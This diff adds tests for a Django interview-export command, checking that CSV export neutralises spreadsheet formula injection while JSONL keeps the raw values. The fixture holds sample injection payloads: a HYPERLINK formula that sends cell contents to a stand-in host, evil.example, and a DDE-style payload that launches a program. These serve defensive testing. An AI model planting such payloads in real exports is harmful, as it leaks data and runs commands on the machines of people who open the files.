@@ -278,3 +278,47 @@ class TestExportCommand:
     def test_it_needs_a_format(self):
         with pytest.raises(CommandError, match="--format"):
             call_command("export", str(INTERVIEW_1), stdout=io.StringIO())
+
+
+FORMULAS = {
+    "text": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "speaker": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "review_note": "+1 looks right",
+    "interview_title": "-2+3",
+    "original_text": "\t=1+1",
+    "model": "\r=1+1",
+}
+
+
+@pytest.fixture
+def formula_saved():
+    save(fixture_rows())
+    sentence = Sentence.objects.get(interview_id=INTERVIEW_1, index=0)
+    for field in ("text", "speaker", "review_note", "original_text", "model"):
+        setattr(sentence, field, FORMULAS[field])
+    sentence.save()
+    sentence.interview.title = FORMULAS["interview_title"]
+    sentence.interview.save()
+
+
+@pytest.mark.django_db
+@pytest.mark.usefixtures("formula_saved")
+class TestCsvInjection:
+    def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(self):
+        first = next(csv.DictReader(io.StringIO(export("csv", str(INTERVIEW_1)))))
+
+        assert {column: first[column] for column in FORMULAS} == {
+            column: f"'{value}" for column, value in FORMULAS.items()
+        }
+
+    def test_other_cells_are_left_alone(self):
+        first = next(csv.DictReader(io.StringIO(export("csv", str(INTERVIEW_1)))))
+
+        assert first["purpose_override_reason"] == "it answers the question before"
+        assert first["function_type_confidence"] == "0.93"
+        assert first["reviewed_at"] == "2025-01-03T09:30:00.123456+00:00"
+
+    def test_jsonl_keeps_the_raw_values(self):
+        first = json.loads(export("jsonl", str(INTERVIEW_1)).splitlines()[0])
+
+        assert {column: first[column] for column in FORMULAS} == FORMULAS
